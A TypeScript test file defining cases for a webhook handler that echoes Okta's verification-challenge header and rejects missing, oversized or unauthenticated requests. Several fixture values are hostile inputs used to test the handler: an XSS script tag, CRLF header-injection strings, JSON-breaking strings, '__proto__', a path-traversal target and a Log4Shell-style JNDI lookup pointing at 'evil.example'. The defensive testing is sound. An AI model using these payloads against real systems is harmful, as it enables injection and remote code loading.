import { type Case, json, refused, refusedByNode } from "../case.ts";
import type { RawRequest } from "../raw-http.ts";
import { authentic } from "./honest.ts";
import { notAuthentic, verified } from "./secrets.ts";

const NAME = "X-Okta-Verification-Challenge";
const missing = refused(400, "A GET must carry the x-okta-verification-challenge header.");

const echoed: readonly (readonly [name: string, challenge: string])[] = [
  ["of one character", "a"],
  ["as long as Okta's", "qE-2pV9rB_8mXw1cYt6uZkL0nHsDfGj3oQaRiTvU"],
  ["of 8 KiB", "x".repeat(8 * 1024)],
  ["of 15 KiB", "x".repeat(15 * 1024)],
  ["that would end the JSON", '","verification":"other'],
  ["that would be JSON", '{"verification":"other"}'],
  ["with backslashes", '\\\\"\\u0000\\'],
  ["that would be a page", "</script><script>alert(1)</script>"],
  ["that would be a header, encoded", "%0d%0aX-Evil:%201"],
  ["that would be a format", "%s%n$" + "{jndi:ldap://evil.example/a}"],
  ["that would be a name", "__proto__"],
  ["of bytes that are no ASCII", "J\xf6rg\xff"],
  ["of a tab within", "a\tb"],
  ["that is a list", "a, b"],
];

const outcomes: readonly (readonly [
  name: string,
  request: RawRequest,
  outcome: Pick<Case, "answer" | "log">,
])[] = [
  ["that is missing", { headers: authentic() }, missing],
  ["that is empty", { headers: authentic([NAME, ""]) }, missing],
  ["of white space", { headers: authentic([NAME, " \t "]) }, missing],
  ["in the query", { headers: authentic(), target: `/?${NAME}=abc` }, missing],
  ["in a header of another name", { headers: authentic(["X-Okta-Verification", "abc"]) }, missing],
  ["in the body", { headers: authentic(), body: JSON.stringify({ [NAME]: "abc" }) }, missing],
  ["in lower case", { headers: authentic([NAME.toLowerCase(), "abc"]) }, verified("abc")],
  ["in upper case", { headers: authentic([NAME.toUpperCase(), "abc"]) }, verified("abc")],
  ["with white space around", { headers: authentic([NAME, "  abc  "]) }, verified("abc")],
  ["twice", { headers: authentic([NAME, "one"], [NAME, "other"]) }, verified("one, other")],
  ["and a body", { headers: authentic([NAME, "abc"]), body: "{}" }, verified("abc")],
  [
    "and a body in chunks",
    { headers: authentic([NAME, "abc"]), body: "{}", framing: "chunks" },
    verified("abc"),
  ],
  ["and no secret", { headers: json([NAME, "abc"]) }, notAuthentic],
  ["that is missing, and no secret", {}, notAuthentic],
  ["of 20 KiB", { headers: authentic([NAME, "x".repeat(20 * 1024)]) }, refusedByNode(431)],
  ["of two lines", { headers: authentic([NAME, "a\r\n b"]) }, refusedByNode(400)],
  ["with a carriage return", { headers: authentic([NAME, "a\rX-Evil: 1"]) }, refusedByNode(400)],
  ["with a line feed", { headers: authentic([NAME, "a\nX-Evil\x00: 1"]) }, refusedByNode(400)],
  ["with a zero byte", { headers: authentic([NAME, "a\0b"]) }, refusedByNode(400)],
  // Two lines are two headers: what stands in the second is not a part of the challenge.
  ["with another header behind it", { headers: authentic([NAME, "a\r\nX-Evil: 1"]) }, verified("a")],
  ["for a path", { headers: authentic([NAME, "abc"]), target: "//evil.example/%2e%2e?a=b" }, verified("abc")],
];

/** Verifications, each by a GET. */
export const challenges: readonly Case[] = [
  ...echoed.map(
    ([name, challenge]) => [name, { headers: authentic([NAME, challenge]) }, verified(challenge)] as const,
  ),
  ...outcomes,
].map(([name, request, outcome]) => ({
  name: `a challenge ${name}`,
  function: "receive",
  request: { method: "GET", ...request },
  ...outcome,
}));
